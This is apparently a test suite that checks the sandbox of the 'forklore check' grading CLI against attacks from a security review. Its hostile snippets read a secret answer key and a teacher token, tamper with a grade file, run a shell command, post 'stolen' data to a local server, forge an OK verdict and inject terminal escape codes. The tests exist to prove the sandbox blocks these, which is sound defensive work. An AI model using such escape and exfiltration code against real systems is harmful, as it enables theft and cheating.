// Every attack on `forklore check` from the security review (../shared/reviews/security.md, CLI
// sections G, H and I), run as a teacher would: the real command on a hostile file, with a secret file,
// a grade sheet and a token in the environment beside it. Those that got through before the sandbox
// (G1, G4-G12, G14, G15, H1-H3, H5-H7, I10, I11, I29) failed here on that code; those that held keep a
// test so that they keep holding.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createServer, type Server } from 'node:http';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { forklore, root } from './run-cli.ts';

const SECRET = 'ANSWER-KEY-q1-deadlock-7f3a';
const TOKEN = 'fake-teacher-token-123';
const dir = mkdtempSync(join(tmpdir(), 'forklore-attacks-'));
const teacher = join(dir, 'teacher');
const answers = join(teacher, 'answers.txt');
const grades = join(teacher, 'grades.csv');
const marker = join(dir, 'PWNED');
mkdirSync(teacher);
writeFileSync(answers, SECRET + '\n');
writeFileSync(grades, 'alice,70\n');
const env = { TEACHER_TOKEN: TOKEN };

// The review's baseline: ch4-malloc-buggy without its options and expected lines (a deadlock).
const baseline = readFileSync(join(root, 'content', 'examples', 'ch4-malloc-buggy.ts'), 'utf8')
  .split('\n')
  .filter((l) => !/^export const (options|expected)/.test(l))
  .join('\n');

let n = 0;
function program(prelude: string, body = baseline): string {
  const file = join(dir, `attack-${++n}.ts`);
  writeFileSync(file, `declare const process: any;\ndeclare const require: any;\n${prelude}\n${body}\n`);
  return file;
}

/** Nothing of the teacher's reached the output or changed on disk. */
function untouched(r: { stdout: string; stderr: string }) {
  expect(r.stdout + r.stderr).not.toContain(SECRET);
  expect(r.stdout + r.stderr).not.toContain(TOKEN);
  expect(readFileSync(grades, 'utf8')).toBe('alice,70\n');
  expect(existsSync(marker)).toBe(false);
}

/** The real verdict of the baseline: a deadlock, exit 1, and no forged OK line. */
function realDeadlock(r: { status: number | null; stdout: string }) {
  expect(r.status).toBe(1);
  expect(r.stdout).toMatch(/^attack-\d+: DEADLOCK\.$/m);
  expect(r.stdout).not.toMatch(/OK\. No schedule goes wrong/);
}

let server: Server;
let port = 0;
const requests: string[] = [];
beforeAll(async () => {
  server = createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    res.end('ok');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  port = (server.address() as { port: number }).port;
});
afterAll(() => new Promise<void>((done) => server.close(() => done())));

describe.concurrent('privileges: the program has none (G)', { timeout: 180_000 }, () => {
  it('G1: cannot read a file beside it, the environment or the uid through process.getBuiltinModule', async () => {
    const file = program(`
      try {
        const fs = process.getBuiltinModule('node:fs');
        console.log('READ', fs.readFileSync(${JSON.stringify(answers)}, 'utf8'), process.env.TEACHER_TOKEN, process.getuid());
      } catch {}`);
    const r = await forklore(['check', file], { env });
    untouched(r);
    realDeadlock(r);
  });

  it('G2, G3: cannot require or import a Node module (refused with exit 2)', async () => {
    for (const line of [
      `const fs = require('fs'); fs.readFileSync(${JSON.stringify(answers)});`,
      `import { readFileSync } from 'node:fs'; readFileSync(${JSON.stringify(answers)});`,
    ]) {
      const r = await forklore(['check', program(line)], { env });
      untouched(r);
      expect(r.status).toBe(2);
      expect(r.stderr).toMatch(/a program can import only 'forklore' \(this one imports '(node:)?fs'\)/);
    }
  });

  it('G4: cannot reach node:fs with a computed dynamic import, awaited or not', async () => {
    const awaited = await forklore(
      [
        'check',
        program(
          `const fs: any = await import(['node', 'fs'].join(':')); fs.appendFileSync(${JSON.stringify(grades)}, 'mallory,100\\n');`,
        ),
      ],
      { env },
    );
    untouched(awaited);
    expect(awaited.status).toBe(2);
    const later = await forklore(
      [
        'check',
        program(
          `import(['node', 'fs'].join(':')).then((fs: any) => fs.appendFileSync(${JSON.stringify(grades)}, 'mallory,100\\n'), () => {});`,
        ),
      ],
      { env },
    );
    untouched(later);
    realDeadlock(later);
  });

  it('G5, G6: cannot run a shell command or write a file', async () => {
    const file = program(`
      try { process.getBuiltinModule('node:child_process').execSync('touch ${marker}'); } catch {}
      try { process.getBuiltinModule('node:fs').appendFileSync(${JSON.stringify(grades)}, 'mallory,100\\n'); } catch {}
      try { new Function('return this')().process.getBuiltinModule('node:fs').writeFileSync(${JSON.stringify(marker)}, 'x'); } catch {}`);
    const r = await forklore(['check', file], { env });
    untouched(r);
    realDeadlock(r);
  });

  it('G7: cannot send anything over the network', async () => {
    const before = requests.length;
    const file = program(`
      try { (globalThis as any).fetch('http://127.0.0.1:${port}/cli-exfil', { method: 'POST', body: 'stolen' }).catch(() => {}); } catch {}
      try { new (globalThis as any).XMLHttpRequest().open('GET', 'http://127.0.0.1:${port}/xhr'); } catch {}
      try { process.getBuiltinModule('node:http').get('http://127.0.0.1:${port}/http'); } catch {}`);
    const r = await forklore(['check', file], { env });
    await new Promise((done) => setTimeout(done, 300));
    expect(requests.slice(before)).toEqual([]);
    realDeadlock(r);
  });
});

describe.concurrent('the checker alone decides the result (G)', { timeout: 180_000 }, () => {
  it('G8: process.exit(0) at the top level does not end the check', async () => {
    const r = await forklore(['check', program('try { process.exit(0); } catch {}')]);
    realDeadlock(r);
  });

  it('G9: printing a fake OK and exiting does not reach the terminal', async () => {
    const r = await forklore([
      'check',
      program(
        `try { process.stdout.write('attack: OK. No schedule goes wrong: every schedule was explored.\\n'); process.exit(0); } catch {}`,
      ),
    ]);
    realDeadlock(r);
  });

  it('G10: process.exit(0) in the child branch, during the search, does not end the check', async () => {
    const body = baseline.replace(
      'if (pid === 0) {',
      'if (pid === 0) {\n    try { (globalThis as any).process.exit(0); } catch {}',
    );
    expect(body).not.toBe(baseline);
    const r = await forklore(['check', program('', body)]);
    realDeadlock(r);
  });

  it('G11: a wrapped process.stdout.write and an exit hook change neither the report nor the status', async () => {
    const r = await forklore([
      'check',
      program(`
      try {
        const write = process.stdout.write.bind(process.stdout);
        process.stdout.write = (s: any, ...rest: any[]) => write(/DEADLOCK/.test(String(s)) ? 'attack: OK. No schedule goes wrong: every schedule was explored.\\n' : s, ...rest);
        process.on('exit', () => { process.exitCode = 0; });
      } catch {}`),
    ]);
    realDeadlock(r);
  });

  it('G12: a patched JSON.stringify (or any other intrinsic) cannot rewrite the report, in --json or as text', async () => {
    const prelude = `
      const tries: string[] = [];
      const attempt = (what: string, f: () => void) => { try { f(); tries.push(what + ' worked'); } catch { tries.push(what + ' refused'); } };
      const stringify = JSON.stringify;
      attempt('JSON.stringify', () => { (JSON as any).stringify = (v: any, ...rest: any[]) => stringify(v && typeof v === 'object' && 'verdict' in v ? { ...v, verdict: 'ok', findings: [] } : v, ...rest); });
      attempt('Array.prototype.push', () => { (Array.prototype as any).push = function () { return 0; }; });
      attempt('Object.prototype.toJSON', () => { (Object.prototype as any).toJSON = function () { return { verdict: 'ok' }; }; });
      attempt('Map.prototype.get', () => { Map.prototype.get = function () { return undefined; }; });
      attempt('globalThis.JSON', () => { (globalThis as any).JSON = { stringify: () => '{"kind":"report"}', parse: JSON.parse }; });
      try { process.on('exit', () => { process.exitCode = 0; }); } catch {}`;
    const json = await forklore(['check', program(prelude), '--json']);
    expect(json.status).toBe(1);
    const report = JSON.parse(json.stdout);
    expect(report.verdict).toBe('deadlock');
    expect(report.findings.length).toBeGreaterThan(0);
    realDeadlock(await forklore(['check', program(prelude)]));
  });

  it('G13: an exported `expected` is ignored', async () => {
    realDeadlock(await forklore(['check', program("export const expected = { verdict: 'ok' };")]));
  });

  it('G14: the command line, not the file, has the last word on the model, and the report says which was used', async () => {
    const file = program("export const options = { libc: 'none' };");
    const fileChoice = await forklore(['check', file]);
    expect(fileChoice.status).toBe(0);
    expect(fileChoice.stdout).toMatch(/^Model: libc none \(the file\)/m);
    // stdout is named only when chosen: the file's choice of a pipe reaches the run.
    expect(fileChoice.stdout).not.toMatch(/stdout/);
    const piped = await forklore(['check', program("export const options = { stdout: 'pipe' };")]);
    expect(piped.stdout).toMatch(/^Model: .*, stdout pipe \(the file\)\.$/m);
    const pinned = await forklore(['check', file, '--libc', 'glibc']);
    realDeadlock(pinned);
    expect(pinned.stdout).toMatch(
      /^Model: libc glibc \(command line\), futex exact \(default\), strict off \(default\), plash off \(default\)\.$/m,
    );
    const json = JSON.parse(
      (await forklore(['check', file, '--libc', 'glibc', '--futex', 'blocking', '--stdout', 'pipe', '--json'])).stdout,
    );
    expect(json.model).toEqual({ libc: 'glibc', strict: false, plash: false, futex: 'blocking', stdout: 'pipe' });
    expect(json.modelSource).toEqual({
      libc: 'command line',
      strict: 'default',
      plash: 'default',
      futex: 'command line',
      stdout: 'command line',
    });
  });

  it('G15: escape codes and newlines in a lock name reach the terminal as text', async () => {
    const file = join(dir, 'G15-ansi.ts');
    writeFileSync(
      file,
      `import { mutex, pthread_create, pthread_join, pthread_mutex_lock, fork, _exit, waitpid, printf } from 'forklore';
const ESC = String.fromCharCode(27);
const m = mutex(ESC + '[2J' + ESC + '[H' + '\\nG15-ansi: OK. No schedule goes wrong: every schedule was explored.\\u009b8m\\u202e' + ESC + '[8m');
function* w() { yield* pthread_mutex_lock(m); }
export default function* main() {
  yield* printf(ESC + ']0;title' + String.fromCharCode(7) + '\\n');
  const t = yield* pthread_create(w);
  const pid = yield* fork();
  if (pid === 0) { yield* pthread_mutex_lock(m); yield* _exit(0); }
  yield* waitpid(pid);
  yield* pthread_join(t);
}
`,
    );
    for (const args of [
      ['check', file],
      ['check', file, '--json'],
    ]) {
      const r = await forklore(args);
      expect(r.status).toBe(1);
      // eslint-disable-next-line no-control-regex
      expect(r.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/);
      expect(r.stdout).not.toMatch(/^G15-ansi: OK/m);
    }
    const text = await forklore(['check', file]);
    expect(text.stdout).toContain('\\e[2J\\e[H\\nG15-ansi: OK.');
  });

  it('G16: a thread that runs forever does not hide the verdict', async () => {
    const body = baseline.replace(
      'export default function* main() {',
      "import { load as ld, cell } from 'forklore';\nconst c = cell('c', 0);\nfunction* spin() { for (;;) yield* ld(c); }\nexport default function* main() {\n  yield* pthread_create(spin);",
    );
    const r = await forklore(['check', program('', body)]);
    expect(r.status).toBe(1);
    expect(r.stdout).toMatch(/^ {2}(thread|Thread) 1001 .*steps.*a loop that never ends\?/m);
  });
});

describe.concurrent('resources: a wall-clock and memory bound that always holds (H)', { timeout: 180_000 }, () => {
  it('H1: an endless loop at top level is stopped at --time-limit, naming the top-level code', async () => {
    const r = await forklore(['check', program('for (;;) {}'), '--time-limit', '2'], { outerMs: 30_000 });
    expect(r.killed).toBe(false);
    expect(r.status).toBe(4);
    expect(r.stderr).toMatch(
      /attack-\d+\.ts: stopped: its top-level code \(before main\) reached the time limit \(2 s, --time-limit\); no verdict/,
    );
  });

  it('H2: an endless loop in a thread is stopped at --time-limit, naming the search', async () => {
    const body = baseline.replace(
      'function* releaser(block: number) {',
      'function* releaser(block: number) {\n  for (;;) {}',
    );
    expect(body, 'the loop went into the baseline').not.toBe(baseline);
    const r = await forklore(['check', program('', body), '--time-limit', '2', '--max-time', '1000'], {
      outerMs: 30_000,
    });
    expect(r.killed).toBe(false);
    expect(r.status).toBe(4);
    expect(r.stderr).toMatch(/stopped: the search reached the time limit \(2 s, --time-limit\); no verdict/);
  });

  it('H3: a loop of getpid() is bounded by the step budget', async () => {
    const file = join(dir, 'H3-getpid.ts');
    writeFileSync(
      file,
      "import { getpid } from 'forklore';\nexport default function* main() { for (;;) yield* getpid(); }\n",
    );
    for (const [args, limit] of [
      [[], 5000],
      [['--max-steps', '100'], 100],
    ] as const) {
      const r = await forklore(['check', file, ...args], { outerMs: 30_000 });
      expect(r.killed).toBe(false);
      expect(r.status).toBe(1);
      expect(r.stdout).toContain(`made ${limit} library calls in a row that take no step`);
      expect(r.stdout).toContain('H3-getpid.ts:2:');
    }
  });

  it('H4: a loop of real steps is bounded by the step budget', async () => {
    const file = join(dir, 'H4-load.ts');
    writeFileSync(
      file,
      "import { cell, load } from 'forklore';\nconst c = cell('c', 0);\nexport default function* main() { for (;;) yield* load(c); }\n",
    );
    const r = await forklore(['check', file]);
    expect(r.status).toBe(1);
    expect(r.stdout).toMatch(/^ {2}(thread|Thread) 1000 .*5000 steps.*a loop that never ends\?/m);
  });

  it('H5: a memory bomb at top level or in a thread is stopped at --memory-limit, naming what was stopped', async () => {
    const top = await forklore(
      [
        'check',
        program('const hoard: any[] = []; for (;;) hoard.push(new Array(1e6).fill(7));'),
        '--memory-limit',
        '64',
      ],
      { outerMs: 60_000 },
    );
    expect(top.status).toBe(4);
    expect(top.stderr).toMatch(
      /stopped: its top-level code \(before main\) reached the memory limit \(64 MiB, --memory-limit\)/,
    );
    const body = baseline.replace(
      'function* releaser(block: number) {',
      'function* releaser(block: number) {\n  const hoard: any[] = []; for (;;) hoard.push(new Array(1e6).fill(7));',
    );
    expect(body, 'the bomb went into the baseline').not.toBe(baseline);
    const thread = await forklore(['check', program('', body), '--memory-limit', '64'], { outerMs: 60_000 });
    expect(thread.status).toBe(4);
    expect(thread.stderr).toMatch(/stopped: the search reached the memory limit \(64 MiB, --memory-limit\)/);
  });

  it('H6, H7: 10,000 threads or 10,000 forks end within the time limit', async () => {
    for (const call of ['pthread_create(t)', 'fork()']) {
      const file = join(dir, `H67-${call.slice(0, 4)}.ts`);
      writeFileSync(
        file,
        `import { pthread_create, fork, _exit } from 'forklore';\nfunction* t() {}\nexport default function* main() {\n  for (let i = 0; i < 10000; i++) { const r = yield* ${call}; if (r === 0) yield* _exit(0); }\n}\n`,
      );
      const r = await forklore(['check', file, '--time-limit', '5'], { outerMs: 30_000 });
      expect(r.killed).toBe(false);
      expect([1, 4]).toContain(r.status);
      expect(r.stdout + r.stderr).toMatch(/5000 steps|stopped: the search reached the time limit \(5 s/);
    }
  });

  it('H8: a 50 MB printf is checked', async () => {
    const file = join(dir, 'H8-printf.ts');
    writeFileSync(
      file,
      "import { printf } from 'forklore';\nexport default function* main() { yield* printf('x'.repeat(50_000_000)); }\n",
    );
    const r = await forklore(['check', file], { outerMs: 60_000 });
    expect(r.status).toBe(0);
  });

  it('H9: an enormous schedule string is refused as bad input', async () => {
    const r = await forklore(['check', program(''), '--schedule', '1000*200000000']);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/^forklore: --schedule asks for 200000000 steps, more than 1000000/m);
  });
});

describe.concurrent('malformed input and options (I)', { timeout: 180_000 }, () => {
  const write = (name: string, text: string | Buffer) => {
    const file = join(dir, name);
    writeFileSync(file, text);
    return file;
  };

  it('I1 to I4: a missing file, a directory, a binary file and an empty file are bad input', async () => {
    expect((await forklore(['check', join(dir, 'nope.ts')])).stderr).toMatch(/no such file: .*nope\.ts/);
    const d = join(dir, 'dir.ts');
    mkdirSync(d);
    const asDir = await forklore(['check', d]);
    expect(asDir.status).toBe(2);
    expect(asDir.stderr).toMatch(/not a file: .*dir\.ts/);
    const binary = await forklore(['check', write('elf.ts', readFileSync(process.execPath).subarray(0, 4096))]);
    expect(binary.status).toBe(2);
    expect(binary.stderr).toMatch(/elf\.ts:1:1: error: /);
    // eslint-disable-next-line no-control-regex
    expect(binary.stderr).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    const empty = await forklore(['check', write('empty.ts', '')]);
    expect(empty.status).toBe(2);
    expect(empty.stderr).toMatch(/empty\.ts:1:1: error: the program has no default export/);
  });

  it('I5: a 10 MB file is checked', async () => {
    const r = await forklore(['check', program(`const big = ${JSON.stringify('y'.repeat(10_000_000))}; void big;`)], {
      outerMs: 60_000,
    });
    realDeadlock(r);
  });

  it('I6 to I9: a syntax error, an unknown import, a throw at load and a non-function default name the file, line and column', async () => {
    // One call with the four files: each gets its own error, and the call's status is bad input.
    const r = await forklore([
      'check',
      write('syntax.ts', "import { fork } from 'forklore';\n\n\nconst x = ;\nexport default function* main() {}\n"),
      write(
        'imp.ts',
        "import { fork } from 'forklore';\nimport { helper } from './does-not-exist.ts';\nexport default function* main() { helper(); yield* fork(); }\n",
      ),
      write(
        'throw.ts',
        "import { fork } from 'forklore';\nconst n: any = null;\n\nconst e = n.entry;\nexport default function* main() { yield* fork(); }\n",
      ),
      write('num.ts', 'export default 42;\n'),
    ]);
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/syntax\.ts:4:11: error: Unexpected ";"/);
    expect(r.stderr).toMatch(
      /imp\.ts:2:\d+: error: a program can import only 'forklore' \(this one imports '\.\/does-not-exist\.ts'\)/,
    );
    expect(r.stderr).toMatch(/throw\.ts:4:\d+: error: TypeError: /);
    expect(r.stderr).toMatch(/num\.ts.*no default export/);
  });

  it('I10, I11: a default export that is not a generator function is bad input, not a bug', async () => {
    const r = await forklore([
      'check',
      write('plain.ts', 'export default function main() { return 0; }\n'),
      write('async.ts', 'export default async function* main() {}\n'),
    ]);
    expect(r.status).toBe(2);
    for (const name of ['plain', 'async'])
      expect(r.stderr).toMatch(new RegExp(`${name}\\.ts.*the default export must be a generator function`));
    expect(r.stdout).toBe('');
  });

  it('I12: yield instead of yield* is a reported error', async () => {
    const r = await forklore(['check', write('yield.ts', 'export default function* main() { yield 42; }\n')]);
    expect(r.status).toBe(1);
    expect(r.stdout).toMatch(/yielded 42: library calls need yield\* \(not yield\)/);
  });

  it('I13 to I28: bad options each get one line on stderr and exit 2', async () => {
    const file = program('');
    const cases: [string[], RegExp][] = [
      [['--max-steps', '-1'], /--max-steps needs a value|--max-steps must be a whole number/],
      [['--runs', 'abc'], /--runs must be a whole number/],
      [['--runs', '0'], /--runs must be a whole number of at least 1/],
      [['--max-time=abc'], /--max-time must be a whole number/],
      [['--strategy', 'bogus'], /--strategy must be one of/],
      [['--schedule', '<img src=x>'], /--schedule: /],
      [['--frobnicate'], /unknown option --frobnicate/],
      [['--json=1'], /--json takes no value/],
      [['--max-steps'], /--max-steps needs a value/],
      [['--runs', '99999999999999999999'], /--runs must be a whole number/],
    ];
    for (const [args, message] of cases) {
      const r = await forklore(['check', file, ...args]);
      expect(r.status, args.join(' ')).toBe(2);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
      expect(r.stderr).toMatch(message);
    }
    expect((await forklore(['chek', file])).status).toBe(2);
    expect((await forklore(['check'])).status).toBe(2);
    const usage = await forklore([]);
    expect(usage.status).toBe(2);
    expect(usage.stdout).toMatch(/^usage: forklore check FILE/);
  });

  it('I29: a search cut short by a bound exits 3, not 0', async () => {
    const file = program('');
    for (const args of [
      ['--max-executions', '1'],
      ['--max-time', '0'],
      ['--preemption-bound', '0'],
    ]) {
      const r = await forklore(['check', file, ...args]);
      if (r.status === 1) continue; // the bound still let the deadlock be found: a bug, as it should be
      expect(r.status, args.join(' ')).toBe(3);
      expect(r.stdout).toMatch(/no bug found\. The search is incomplete/);
    }
    const cut = await forklore([
      'check',
      join(root, 'content', 'examples', 'ch1-wrapper-fixed.ts'),
      '--max-executions',
      '1',
    ]);
    expect(cut.status).toBe(3);
  });
});
